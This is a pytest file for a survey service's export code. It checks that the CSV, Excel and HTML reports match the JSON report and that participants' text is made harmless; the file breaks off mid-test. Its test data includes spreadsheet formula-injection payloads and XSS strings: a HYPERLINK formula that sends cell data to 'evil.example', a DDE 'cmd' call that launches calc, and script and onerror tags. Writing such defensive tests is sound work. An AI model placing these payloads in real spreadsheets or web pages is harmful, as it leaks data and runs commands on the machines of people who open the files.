"""evalsvc.exports: every format parsed back and compared with the JSON of the same report.

Reports are built the real way (`tests.report_builder`): a real SQLite file filled by
`evalsvc.demo.fill` and by hand-made submissions through `evalsvc.intake.Intake`, then
`reports.report_from`. The main course is tests/data/surveys/waves (three phases and
comparisons, sex and role breakdowns, a 0-10 confidence scale, a pass mark, every
feedback kind); the bundled course checks a 1-5 scale and long phase names.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import msgspec
import openpyxl
import pytest

from evalsvc.catalog import load_paths
from evalsvc.domain.columns import field_meta
from evalsvc.domain.design import ALL
from evalsvc.domain.questionnaire import Course
from evalsvc.domain.scoring import TOTAL
from evalsvc.exports import csv_export, html_report, methods, tables, xlsx_export
from evalsvc.exports.display_names import DisplayNames
from evalsvc.exports.plain_language import change_sentence
from evalsvc.exports.safe import is_dangerous, neutralize
from evalsvc.reports import CourseReport
from evalsvc.storage.records import ResponseRow
from tests.conftest import BUNDLED_SURVEYS, TEST_SURVEYS
from tests.report_builder import Built, Person, build

WAVES: Course = load_paths([TEST_SURVEYS]).courses["waves"]
BUNDLED: Course = load_paths([BUNDLED_SURVEYS]).courses["salw-nexus-kz-2024"]

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\u22121",  # −1 with MINUS SIGN
    "\uff1d1+1",  # ＝1+1 full width
    "  =cmd|' /C calc'!A0",
)
XSS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
TEXTS = (*INJECTIONS, *XSS, "Useful exercises")
STRUCT_TABLES = tuple(spec for spec in tables.TABLES if spec.row_type is not None)


def with_item_text(course: Course, item_id: str, text: str) -> Course:
    items = tuple(
        msgspec.structs.replace(item, text={"en": text, "ru": text}) if item.id == item_id else item
        for item in course.items
    )
    return msgspec.structs.replace(course, items=items)


def writers(course: Course) -> list[Person]:
    """One person per text: the same text as feedback after and as a barrier at follow-up."""
    agencies = course.agency_ids()
    return [
        Person(
            agency=agencies[n % len(agencies)],
            answers={"pre": {}, "post": {"fb_text": text}, "follow_up": {"ap_barriers": text}},
            level=0.3 + 0.05 * (n % 8),
        )
        for n, text in enumerate(TEXTS)
    ]


# -- reports ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def course() -> Course:
    """The waves course, with a formula as the text of its first knowledge item."""
    return with_item_text(WAVES, "k1", INJECTIONS[0])


@pytest.fixture(scope="module")
def built(course: Course, tmp_path_factory: pytest.TempPathFactory) -> Built:
    path = tmp_path_factory.mktemp("waves") / "db.sqlite3"
    return build(path, course, participants=60, seed=7, people=writers(course))


@pytest.fixture(scope="module")
def report(built: Built) -> CourseReport:
    return built.report


@pytest.fixture(scope="module")
def as_json(report: CourseReport) -> dict:
    return json.loads(msgspec.json.encode(report))


@pytest.fixture(scope="module")
def bundled(tmp_path_factory: pytest.TempPathFactory) -> Built:
    return build(tmp_path_factory.mktemp("bundled") / "db.sqlite3", BUNDLED, participants=40)


@pytest.fixture(scope="module")
def few(course: Course, tmp_path_factory: pytest.TempPathFactory) -> CourseReport:
    """Two people who wrote markup: every figure and every text is withheld."""
    people = [
        Person("border", {"pre": {}, "post": {"fb_text": XSS[0]}}),
        Person("police", {"pre": {}, "post": {"fb_text": XSS[1]}}),
    ]
    return build(tmp_path_factory.mktemp("few") / "db.sqlite3", course, people=people).report


@pytest.fixture(scope="module")
def empty(course: Course, tmp_path_factory: pytest.TempPathFactory) -> CourseReport:
    return build(tmp_path_factory.mktemp("empty") / "db.sqlite3", course, lang="ru").report


# -- what each table should hold, from the JSON ------------------------------------------------


def json_rows(as_json: dict, table: str) -> list[dict]:
    """The JSON of `table` as rows of its columns (see `tables`)."""
    analysis = as_json["analysis"]
    if table == "answer_counts":
        return [
            {
                "phase": r["phase"],
                "item": r["item"],
                "breakdown": r["breakdown"],
                "group": r["group"],
                "answer": answer,
                "count": count,
            }
            for r in analysis["answer_summaries"]
            for answer, count in (r["distribution"] or {}).items()
        ]
    if table == "texts":
        return [
            {"phase": t["phase"], "item": t["item"], "answer": a}
            for t in analysis["texts"]
            for a in t["answers"]
        ]
    return analysis[table]


def flattened(value: object) -> object:
    """A JSON value as `tables` documents its cell: lists and dicts joined with "; "."""
    if isinstance(value, list):
        return "; ".join(str(v) for v in value)
    if isinstance(value, dict):
        if not value:
            return None
        reasons = set(value.values())
        if len(reasons) == 1 and all(isinstance(v, str) for v in reasons):
            return next(iter(reasons))
        return "; ".join(f"{k}={v}" for k, v in value.items())
    return value


def expected_csv(value: object) -> str:
    value = flattened(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str):
        return neutralize(value)
    return str(value)


def assert_same_csv(cell: str, value: object) -> None:
    if isinstance(value, float):
        assert float(cell) == pytest.approx(value, abs=1e-12, rel=0)
    else:
        assert cell == expected_csv(value)


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


# -- safe ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS, ids=repr)
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "plain", "a=1", "1-2", "Хорошо", "e-mail", "'quoted", "100%"],
    ids=repr,
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert neutralize(text) == text


@pytest.mark.parametrize("text", ["＋1", "－1", "＠SUM(A1)", " \u00a0-1", "\n=1"], ids=repr)
def test_lookalikes_and_leading_whitespace_are_caught(text: str) -> None:
    assert is_dangerous(text)


def test_numbers_are_not_neutralized() -> None:
    with pytest.raises(TypeError):
        neutralize(-1.5)  # type: ignore[arg-type]


# -- tables ----------------------------------------------------------------------------------


def test_report_tables_use_the_struct_field_names(report: CourseReport) -> None:
    named = tables.report_tables(report)
    assert tuple(named) == tables.TABLE_NAMES
    rows_of = tables.struct_rows(report)
    for spec in STRUCT_TABLES:
        assert spec.row_type is not None
        columns, rows = named[spec.name]  # a Table unpacks like (columns, rows)
        assert set(columns) == set(spec.row_type.__struct_fields__), spec.name
        keys = [f.name for f in field_meta(spec.row_type) if f.unit == "key"]
        assert list(columns[: len(keys)]) == keys, spec.name  # which row it is, first
        assert len(rows) == len(rows_of[spec.name]) > 0, spec.name
    summary = named["summary"]
    assert summary.columns[:7] == (
        "measure", "comparison", "from_phase", "to_phase", "breakdown", "group", "skill",
    )  # fmt: skip
    assert {"n_from", "n_to", "n_paired", "from_mean", "to_mean", "d_av"} <= set(summary.columns)


def test_codebook_describes_every_column(report: CourseReport, course: Course) -> None:
    named = tables.report_tables(report)
    described: dict[str, set[str]] = {}
    for name, table, meaning, unit in named["codebook"].rows:
        assert meaning and unit, name
        described.setdefault(str(table), set()).add(str(name))
    participant_level = {
        "scores": set(tables.scores_columns()),
        "responses": {c.name for c in tables.RESPONSES_FIXED_COLUMNS} | {tables.ITEM_COLUMN},
        "items_codebook": set(tables.item_codebook(course, "en").columns),
    }
    expected = {name: set(table.columns) for name, table in named.items()}
    for name, columns in participant_level.items():
        assert name not in expected, "a participant-level table shares a report table's name"
        expected[name] = columns
    assert described == expected


def test_every_download_and_codebook_table_has_its_own_name() -> None:
    from evalsvc.exports import registry

    assert not set(registry.REPORT_EXPORTS) & set(registry.PARTICIPANT_EXPORTS)
    participant_tables = {"scores", "responses", "items_codebook"}
    assert not set(tables.TABLE_NAMES) & participant_tables


def test_score_rows_cover_every_phase_measure_and_skill(built: Built) -> None:
    measures = [m.id for m in built.report.design.measures]
    rows = list(tables.score_rows(built.rows, measures))
    assert {r[2] for r in rows} == set(built.report.design.phases)
    assert {r[3] for r in rows} == {"knowledge", "confidence", "dont_know"}
    assert {r[4] for r in rows} == {*WAVES.skill_ids(), TOTAL}
    participants = [r[0] for r in rows]
    assert participants == sorted(participants)
    assert all(isinstance(r[5], float) and 0 <= r[5] <= 100 for r in rows)
    confidence = [r[5] for r in rows if r[3] == "confidence"]
    assert max(confidence) <= 10 and max(confidence) > 5  # the 0-10 scale, not 1-5


def _response(answers: dict, mismatch: int = 0) -> ResponseRow:
    return ResponseRow(
        participant=12,
        agency="border",
        submitted_agency="police" if mismatch else "border",
        agency_mismatch=mismatch,
        phase="post",
        lang="ru",
        received_at="2024-03-15T10:00:00Z",
        answers_json=json.dumps(answers),
    )


def test_response_row_follows_the_columns(course: Course, built: Built) -> None:
    columns = tables.responses_columns(course)
    fixed = tuple(c.name for c in tables.RESPONSES_FIXED_COLUMNS)
    assert columns[: len(fixed)] == fixed
    assert columns[len(fixed) :] == tuple(item.id for item in course.items)
    answers = {"k1": "b", "k3": ["a", "c"], "sa_detect": 7, "fb_text": "=1+1", "fb_hours": 12}
    row = dict(zip(columns, tables.response_row(course, _response(answers, 1)), strict=True))
    assert row["agency_mismatch"] is True and row["submitted_agency"] == "police"
    assert row["k1"] == "b"
    assert row["k3"] == "a|c"
    assert row["fb_text"] == "=1+1"  # defused by the CSV writer, not here
    assert row["k2"] is None
    assert row["sa_detect"] == 7 and row["fb_hours"] == 12
    stored = [tables.response_row(course, r) for r in built.responses]
    assert len(stored) == len(built.responses) > 0
    assert all(len(r) == len(columns) for r in stored)


def test_item_codebook_lists_options_scales_and_keys() -> None:
    table = tables.item_codebook(BUNDLED, "en")
    rows = {row[0]: dict(zip(table.columns, row, strict=True)) for row in table.rows}
    assert len(rows) == len(BUNDLED.items)
    k02 = rows["k02"]
    assert k02["options"].startswith("a=Prohibiting all civilian ownership of firearms; b=")
    assert k02["options"].endswith("; dont_know")
    assert k02["correct"] == "c" and k02["points"] == 1.0
    likert = rows["fb_relevance"]
    assert likert["scale"] == "agreement (1..5)"
    assert likert["options"].startswith("1=Strongly disagree; 2=Disagree")
    assert likert["correct"] is None and likert["points"] is None
    waves = tables.item_codebook(WAVES, "en")
    confidence = next(r for r in waves.rows if r[0] == "sa_detect")
    assert dict(zip(waves.columns, confidence, strict=True))["scale"] == "ten (0..10)"
    without = tables.item_codebook(BUNDLED, "en", answer_keys=False)
    assert "correct" not in without.columns and "source" not in without.columns


# -- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [n for n in tables.TABLE_NAMES if n != "codebook"])
def test_csv_matches_the_json(name: str, report: CourseReport, as_json: dict) -> None:
    table = tables.report_tables(report)[name]
    text = csv_export.table_csv(*table)
    assert text.startswith("\ufeff")
    assert text.removeprefix("\ufeff").split("\r\n", 1)[0] == ",".join(table.columns)
    parsed = parse_csv(text)
    expected = json_rows(as_json, name)
    assert len(parsed) == len(expected) > 0
    for from_csv, from_json in zip(parsed, expected, strict=True):
        assert set(from_csv) == set(from_json)
        for column, value in from_json.items():
            assert_same_csv(from_csv[column], value)


def test_csv_cells_keep_numbers_and_defuse_text() -> None:
    columns = ("text", "number", "integer", "missing", "flag")
    rows = [(text, -1.5, -3, None, True) for text in INJECTIONS]
    rows.append(("Астана, Қазақстан", 0.1 + 0.2, 0, None, False))
    text = csv_export.table_csv(columns, rows)
    raw = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]
    for cells, injection in zip(raw, INJECTIONS, strict=False):
        assert cells == ["'" + injection, "-1.5", "-3", "", "true"]
    assert raw[-1] == ["Астана, Қазақстан", "0.30000000000000004", "0", "", "false"]
    assert csv_export.table_csv(columns, rows, bom=False).startswith("text,")
    as_mappings = [dict(zip(columns, row, strict=True)) for row in rows]
    assert csv_export.table_csv(columns, as_mappings) == text


def test_texts_csv_defuses_every_injection(report: CourseReport) -> None:
    table = tables.report_tables(report)["texts"]
    parsed = parse_csv(csv_export.table_csv(*table))
    for item in ("fb_text", "ap_barriers"):
        answers = [row["answer"] for row in parsed if row["item"] == item]
        for injection in INJECTIONS:
            assert "'" + injection.strip() in answers, (item, injection)  # stored stripped
        assert "Useful exercises" in answers
        assert not [a for a in answers if is_dangerous(a)]


def test_item_texts_are_defused_in_the_codebook_csv(course: Course) -> None:
    parsed = parse_csv(csv_export.table_csv(*tables.item_codebook(course, "en")))
    k1 = next(row for row in parsed if row["item"] == "k1")
    assert k1["text"] == "'" + INJECTIONS[0]


async def _aiter(rows: list) -> AsyncIterator:
    for row in rows:
        yield row


@pytest.mark.anyio
async def test_stream_csv_equals_table_csv_in_bounded_chunks(course: Course) -> None:
    columns = tables.responses_columns(course)
    answers = {"k1": "b", "fb_text": "=HYPERLINK(1)", "ap_barriers": "Практика\nи теория"}
    rows = [tables.response_row(course, _response(answers, n % 2)) for n in range(2000)]
    chunks = [c async for c in csv_export.stream_csv(columns, _aiter(rows), chunk_size=4096)]
    assert len(chunks) > 10
    assert max(len(c) for c in chunks) < 2 * 4096 * 4  # a chunk holds about chunk_size chars
    streamed = b"".join(chunks)
    assert streamed == csv_export.table_csv(columns, rows).encode("utf-8")
    assert streamed.startswith(b"\xef\xbb\xbf")
    parsed = parse_csv(streamed.decode("utf-8"))
    assert len(parsed) == 2000
    assert parsed[0]["fb_text"] == "'=HYPERLINK(1)"
    assert parsed[0]["ap_barriers"] == "Практика\nи теория"


@pytest.mark.anyio
async def test_stream_csv_of_no_rows_is_the_header() -> None:
    chunks = [c async for c in csv_export.stream_csv(("a", "b"), _aiter([]))]
    assert b"".join(chunks) == "\ufeffa,b\r\n".encode()


# -- XLSX ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def xlsx_bytes(report: CourseReport, course: Course) -> bytes:
    return xlsx_export.workbook(report, course)


@pytest.fixture(scope="module")
def book(xlsx_bytes: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes))


def _charts(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        names = sorted(
            (n for n in archive.namelist() if re.fullmatch(r"xl/charts/chart\d+\.xml", n)),
            key=lambda n: int(re.findall(r"\d+", n)[0]),
        )
        return [archive.read(n).decode() for n in names]


def test_xlsx_has_the_sheets_and_native_charts(book, xlsx_bytes: bytes) -> None:
    assert book.sheetnames == [
        "Summary", "Charts", "Group comparisons", "Phase counts", "Attrition", "Items",
        "Reliability", "Answers", "Answer counts", "Texts", "Questions", "Methods",
        "Codebook",
    ]  # fmt: skip
    charts = _charts(xlsx_bytes)
    assert len(charts) == 3 * 3  # per measure and comparison
    first = charts[0]
    assert "<c:barChart>" in first and "<c:errBars>" in first
    assert "Charts!$B$2:$B$4" in first  # categories: the two skills and the total
    assert "<a:t>Knowledge: pre → post, all participants</a:t>" in first
    confidence = next(c for c in charts if "<a:t>Confidence: pre → post" in c)
    assert re.search(r'<c:max val="10(\.0)?"/>', confidence)  # the course's 0-10 scale
    assert re.search(r'<c:min val="0(\.0)?"/>', confidence)
    dont_know = next(c for c in charts if "I don't know" in c or "I don&apos;t know" in c)
    assert "lower is better" in dont_know


@pytest.mark.parametrize(("sheet", "name"), xlsx_export.TABLE_SHEETS[:-1])
def test_xlsx_sheet_matches_the_json(
    sheet: str, name: str, book, report: CourseReport, as_json: dict
) -> None:
    table = tables.report_tables(report)[name]
    worksheet = book[sheet]
    values = list(worksheet.iter_rows(values_only=True))
    assert values[0] == table.columns
    assert worksheet.freeze_panes is not None and worksheet.freeze_panes.endswith("2")
    expected = json_rows(as_json, name)
    assert len(values) - 1 == len(expected) > 0
    for cells, from_json in zip(values[1:], expected, strict=True):
        row = dict(zip(table.columns, cells, strict=True))
        for column, value in from_json.items():
            got, want = row[column], flattened(value)
            if isinstance(want, float):
                assert got == pytest.approx(want, abs=1e-12, rel=1e-14), column
            elif want == "":
                assert got is None, column
            else:
                assert got == want, column
                assert type(got) is type(want), column


def test_xlsx_withheld_cells_are_blank_and_grey(book, report: CourseReport) -> None:
    sheets = dict(xlsx_export.TABLE_SHEETS)
    for spec in STRUCT_TABLES:
        structs = tables.struct_rows(report)[spec.name]
        if not any(getattr(r, "withheld", None) for r in structs):
            continue
        worksheet = book[next(s for s, n in sheets.items() if n == spec.name)]
        header = [c.value for c in worksheet[1]]
        grey = 0
        for cells, struct in zip(worksheet.iter_rows(min_row=2), structs, strict=True):
            withheld = getattr(struct, "withheld", {})
            for name, cell in zip(header, cells, strict=True):
                shaded = cell.fill.fgColor.rgb.endswith("E5E7EB")
                assert shaded == (name in withheld), (spec.name, name)
                if name in withheld:
                    assert cell.value is None, (spec.name, name)
                    grey += 1
            if "n_paired" in header:
                assert cells[header.index("n_paired")].value is not None  # counts stay
        assert grey > 0, spec.name


_UNIT_FORMATS = {"share": "0.0%", "p": "0.000", "effect": "0.00", "statistic": "0.00"}
_UNIT_FORMATS |= {"df": "0.0", "value": "0.00"}


def test_xlsx_number_formats_follow_the_unit_and_the_measure(book, report: CourseReport) -> None:
    decimals = {m.id: m.decimals for m in report.design.measures}
    assert decimals == {"knowledge": 1, "confidence": 2, "dont_know": 1}
    checked = 0
    named = tables.report_tables(report)
    for sheet, name in xlsx_export.TABLE_SHEETS:
        units = {c.name: c.unit for c in tables.described_columns(name)}
        worksheet = book[sheet]
        header = [c.value for c in worksheet[1]]
        # the written values, whose types a round trip through Excel's XML blurs (35.0 -> 35)
        written = named[name].rows
        for cells, values in zip(worksheet.iter_rows(min_row=2), written, strict=True):
            measure = cells[header.index("measure")].value if "measure" in header else None
            for column, cell, value in zip(header, cells, values, strict=True):
                if isinstance(value, bool) or not isinstance(value, int | float):
                    continue
                unit = units[column]
                if isinstance(value, int):
                    want = "0"
                elif unit in ("measure", "gain"):
                    want = "0.0" if decimals[str(measure)] == 1 else "0.00"
                else:
                    want = _UNIT_FORMATS[unit]
                assert cell.number_format == want, (sheet, column, measure)
                checked += 1
    assert checked > 1000
    summary = book["Summary"]
    header = [c.value for c in summary[1]]
    rows = {(r[0].value, r[1].value, r[4].value, r[6].value): r for r in summary.iter_rows(2)}
    confidence = rows[("confidence", "pre_post", "all", "total")]
    assert confidence[header.index("from_mean")].number_format == "0.00"
    knowledge = rows[("knowledge", "pre_post", "all", "total")]
    assert knowledge[header.index("from_mean")].number_format == "0.0"
    assert knowledge[header.index("t_pvalue")].number_format == "0.000"
    assert knowledge[header.index("pass_to_share")].number_format == "0.0%"


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers(book) -> None:
    texts = book["Texts"]
    answers = {c.value: c for c in texts["C"][1:]}
    for injection in INJECTIONS:
        cell = answers[injection.strip()]
        assert cell.data_type == "s"
        assert cell.quotePrefix, injection  # Excel shows it as text and keeps it text
    assert not answers["Useful exercises"].quotePrefix
    questions = book["Questions"]
    row = next(r for r in questions.iter_rows(min_row=2) if r[0].value == "k1")
    question = row[5]
    assert question.value == INJECTIONS[0] and question.data_type == "s" and question.quotePrefix
    summary = book["Summary"]
    header = [c.value for c in summary[1]]
    gains = [r[header.index("mean_gain")] for r in summary.iter_rows(min_row=2)]
    negative = [c for c in gains if isinstance(c.value, float) and c.value < 0]
    assert negative and all(c.data_type == "n" for c in negative)
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)


def test_xlsx_methods_and_codebook(book, report: CourseReport, course: Course) -> None:
    texts = [c.value for c in book["Methods"]["B"] if c.value]
    for section in methods.methods_sections(report, course):
        assert section.title in texts
        assert all(p in texts for p in section.paragraphs)
    assert "In brief" in texts
    assert [c.value for c in book["Codebook"][1]] == [c.name for c in tables.CODEBOOK_COLUMNS]
    assert book["Reliability"].max_row == len(report.analysis.reliability) + 1


# -- HTML ------------------------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


class _Tables(HTMLParser):
    """Every <table> by id: rows of (tag, class, text) cells."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[tuple[str, str, str]]]] = {}
        self._table: str | None = None
        self._cell: list[str] | None = None
        self._kind = ("", "")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "table":
            self._table = found.get("id") or ""
            self.tables[self._table] = []
        elif tag == "tr" and self._table is not None:
            self.tables[self._table].append([])
        elif tag in ("td", "th") and self._table is not None:
            self._cell, self._kind = [], (tag, found.get("class") or "")

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self._table is not None:
            self.tables[self._table][-1].append((*self._kind, "".join(self._cell).strip()))
            self._cell = None
        elif tag == "table":
            self._table = None


def tables_of(html: str) -> dict[str, list[list[tuple[str, str, str]]]]:
    parser = _Tables()
    parser.feed(html)
    return parser.tables


def grouped(rows: list[list[tuple[str, str, str]]]) -> dict[tuple[str, str], list[tuple]]:
    """Body rows of a table by (group heading, first cell); the heading "" before any."""
    out: dict[tuple[str, str], list[tuple]] = {}
    heading = ""
    for row in rows[1:]:
        if len(row) == 1 and row[0][0] == "th":
            heading = row[0][2]
        elif row:
            out[(heading, row[0][2])] = row
    return out


LINKS = [("Summary (CSV)", "/api/v1/courses/waves/summary.csv")]


@pytest.fixture(scope="module")
def served(report: CourseReport, course: Course) -> str:
    return html_report.render_report(report, course, inline_css=False, links=LINKS)


@pytest.fixture(scope="module")
def offline(report: CourseReport, course: Course) -> str:
    return html_report.render_report(report, course, inline_css=True, links=[])


@pytest.fixture(scope="module")
def html_tables(served: str) -> dict[str, list[list[tuple[str, str, str]]]]:
    return tables_of(served)


def test_participant_text_is_escaped(served: str) -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in served
    assert "&lt;img src=x onerror=alert(1)&gt;" in served
    assert "<script" not in served.lower()
    assert not [tag for tag, _ in tags_of(served) if tag in ("script", "img", "iframe", "object")]
    assert not [attrs for _, attrs in tags_of(served) if any(a.startswith("on") for a in attrs)]


@pytest.mark.parametrize("which", ["served", "offline"])
def test_html_loads_nothing_from_elsewhere_and_has_no_inline_style(which: str, request) -> None:
    html = request.getfixturevalue(which)
    # the only web addresses are in participants' text and an item (the injections), escaped
    assert set(re.findall(r"https?://[\w.-]+", html)) == {"http://evil.example"}
    for tag, attrs in tags_of(html):
        assert "style" not in attrs, tag
        for name in ("src", "href", "action", "srcset", "xlink:href"):
            value = (attrs.get(name) or "").strip().lower()
            assert not re.match(r"^(https?:)?//", value), (tag, name, value)
    assert not re.search(r"url\(\s*['\"]?(https?:)?//", html)
    assert not re.search(r"@import", html)


def test_served_page_links_the_stylesheet_and_the_downloads(served: str) -> None:
    links = [attrs for tag, attrs in tags_of(served) if tag == "link"]
    assert {"rel": "stylesheet", "href": "/static/report.css"} in links
    assert "<style" not in served
    assert 'href="/api/v1/courses/waves/summary.csv"' in served


def test_offline_file_inlines_the_stylesheet(offline: str) -> None:
    assert "<style>" in offline and "@page" in offline
    assert 'href="/static/report.css"' not in offline
    assert 'aria-label="Downloads"' not in offline
    assert offline.startswith("<!doctype html>")


def test_report_css_is_the_served_file() -> None:
    path = Path(html_report.__file__).resolve().parents[1] / "web" / "static" / "report.css"
    assert html_report.stylesheet() == path.read_text(encoding="utf-8")


def _signed(value: float, places: int) -> str:
    return f"{value:+.{places}f}".replace("-", "\u2212")


def test_html_has_every_section_and_labels_the_comparisons(served: str, report) -> None:
    for section_id in (
        "brief", "headline", "results-all", "results-agency", "results-sex", "results-role",
        "attrition", "items", "answers", "methods",
    ):  # fmt: skip
        assert f'id="{section_id}"' in served, section_id
    for label in (
        "pre → post (change over the course)",
        "pre → follow up (lasting change, from the start to follow up)",
        "post → follow up (retention: change since post)",
    ):
        assert label in served
    index = {(r.measure, r.comparison, r.breakdown, r.skill): r for r in report.analysis.summary}
    everyone = index[("knowledge", "pre_post", ALL, TOTAL)]
    assert everyone.mean_gain is not None and everyone.cohens_dz is not None
    assert f'<p class="headline-value">{_signed(everyone.mean_gain, 1)} ' in served
    assert f"d_z {everyone.cohens_dz:.2f}".replace("-", "\u2212") in served
    assert "Generated" in served and str(report.analysis.n_participants) in served
    for section in methods.methods_sections(report, WAVES):
        assert section.title in served


def test_in_brief_says_what_changed_for_how_many_and_how_sure(served: str, report) -> None:
    brief = served[served.index('id="brief"') : served.index('id="headline"')]
    assert f"{report.analysis.n_participants} people took part" in brief
    assert "What these figures cannot show" in brief and "regression to the mean" in brief
    assert "Who did not come back" in brief
    assert "95% confidence interval" in brief or "(95% confidence" in brief
    audit = report.analysis.disclosure
    assert f"{audit.withheld} are withheld" in brief


@pytest.mark.parametrize("which", ["waves", "bundled"])
def test_plain_language_direction_follows_the_measure(which: str, request) -> None:
    found = request.getfixturevalue("built" if which == "waves" else "bundled")
    report, course = found.report, found.course
    names = DisplayNames(report, course)
    sentences = 0
    for comparison in report.design.comparisons:
        for measure in report.design.measures:
            row = next(
                r
                for r in report.analysis.summary
                if (r.measure, r.comparison, r.breakdown, r.skill)
                == (measure.id, comparison.id, ALL, TOTAL)
            )
            text = change_sentence(measure, comparison, row, names, report.min_cell_size)
            assert f"For the {row.n_paired} people who answered both" in text
            gain = row.mean_gain or 0.0
            if gain:
                better = (gain > 0) == measure.higher_is_better
                assert ("an improvement" in text) == better, text
                assert ("a worsening" in text) != better, text
            low, high = row.gain_ci_low, row.gain_ci_high
            assert low is not None and high is not None
            assert ("probably between" in text) == (low > 0 or high < 0), text
            assert ("includes no change" in text) == (low <= 0 <= high), text
            sentences += 1
    assert sentences == len(report.design.comparisons) * len(report.design.measures)


def test_summary_tables_show_one_breakdown_at_a_time(html_tables, report: CourseReport) -> None:
    groups = {b: [g.name for g in named] for b, named in report.groups.items()}
    every_group = {name for names in groups.values() for name in names}
    skills = [s.name for s in report.skills] + ["Total (all skills)"]
    for breakdown in ("all", *(b.id for b in report.design.breakdowns)):
        for measure in report.design.measures:
            for comparison in report.design.comparisons:
                rows = html_tables[f"summary-{breakdown}-{measure.id}-{comparison.id}"]
                headings = [r[0][2] for r in rows[1:] if len(r) == 1 and r[0][0] == "th"]
                if breakdown == ALL:
                    assert headings == []
                    assert [r[0][2] for r in rows[1:]] == skills
                else:
                    assert headings == groups[breakdown]
                    assert not (every_group - set(groups[breakdown])) & set(headings)
                    assert len(rows) - 1 == len(headings) * (1 + len(skills))


def withheld_cells_checked(report: CourseReport, html: str) -> dict[str, int]:
    """Every withheld summary row's cells say its reason; counts by reason (and "big":
    complementary rows of at least k people)."""
    k = report.min_cell_size
    small, protect = f"withheld: fewer than {k} people", "withheld to protect another group"
    html_tables = tables_of(html)
    names = {(b, g.id): g.name for b, named in report.groups.items() for g in named}
    names |= {(ALL, ALL): ""}
    skill_names = {s.id: s.name for s in report.skills} | {TOTAL: "Total (all skills)"}
    seen = {"small_group": 0, "complementary": 0, "big": 0}
    for row in report.analysis.summary:
        if not row.withheld:
            continue
        table = grouped(html_tables[f"summary-{row.breakdown}-{row.measure}-{row.comparison}"])
        cells = table[(names[(row.breakdown, row.group)], skill_names[row.skill])]
        shown = [text for _, kind, text in cells if kind == "withheld"]
        reasons = set(row.withheld.values())
        assert len(reasons) == 1
        reason = reasons.pop()
        want, other = (small, protect) if reason == "small_group" else (protect, small)
        assert shown and all(text == want for text in shown), (row, cells)
        assert other not in [text for *_, text in cells]
        assert cells[3][2] == str(row.n_paired)  # the count is shown either way
        seen[reason] += 1
        seen["big"] += reason == "complementary" and row.n_paired >= k
    assert "n &lt; " not in html and "n < " not in html  # never "n < k", whatever the reason
    return seen


def test_withheld_cells_say_why_from_the_row_reasons(
    served: str, report: CourseReport, few: CourseReport, course: Course
) -> None:
    seen = withheld_cells_checked(report, served)
    assert seen["complementary"] > 0
    assert seen["big"] > 0  # a complementary group of k or more people is not called small
    few_html = html_report.render_report(few, course, inline_css=True)
    assert withheld_cells_checked(few, few_html)["small_group"] > 0


def test_charts_show_every_comparison_on_the_measures_own_range(served: str, report) -> None:
    figures = re.findall(r'<figure id="(chart-[^"]+)" class="chart">', served)
    expected = [
        f"chart-{b}-{m.id}-{c.id}"
        for b in ("all", *(b.id for b in report.design.breakdowns))
        for m in report.design.measures
        for c in report.design.comparisons
    ]
    assert figures == expected
    assert served.count("<svg") == len(expected)

    def ticks(figure_id: str) -> list[str]:
        svg = served[served.index(f'<figure id="{figure_id}"') :]
        svg = svg[: svg.index("</svg>")]
        return re.findall(r'text-anchor="middle" fill="#4b5563">([\d.]+)</text>', svg)

    assert ticks("chart-all-confidence-pre_post") == ["0", "2", "4", "6", "8", "10"]
    assert ticks("chart-all-knowledge-pre_post") == ["0", "20", "40", "60", "80", "100"]
    assert "1–5" not in served and "(1-5)" not in served


def test_svg_charts_are_well_formed_xml(served: str) -> None:
    svgs = re.findall(r"<svg.*?</svg>", served, flags=re.S)
    assert svgs
    for svg in svgs:
        root = ElementTree.fromstring(svg)  # noqa: S314 - our own output
        assert root.tag == "svg" and root.find("title") is not None


def test_names_with_markup_are_escaped_in_charts(built: Built, course: Course) -> None:
    agencies = list(course.agencies)
    agencies[0] = msgspec.structs.replace(agencies[0], name={"en": 'R&D <b>"Unit"</b>'})
    odd = msgspec.structs.replace(course, agencies=tuple(agencies))
    html = html_report.render_report(built.report_for(odd), odd, inline_css=True)
    assert "<b>" not in html
    for svg in re.findall(r"<svg.*?</svg>", html, flags=re.S):
        ElementTree.fromstring(svg)  # noqa: S314 - our own output
    assert "R&amp;D &lt;b&gt;" in html


def test_attrition_table_compares_who_stayed_with_who_left(html_tables, report) -> None:
